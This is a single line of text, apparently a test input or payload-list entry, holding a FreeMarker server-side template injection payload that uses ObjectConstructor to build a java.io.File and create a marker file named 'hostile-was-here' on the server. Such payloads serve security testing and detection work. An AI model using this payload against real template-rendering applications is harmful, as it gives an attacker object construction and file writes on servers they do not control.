${"freemarker.template.utility.ObjectConstructor"?new()("java.io.File", "hostile-was-here").createNewFile()?c}
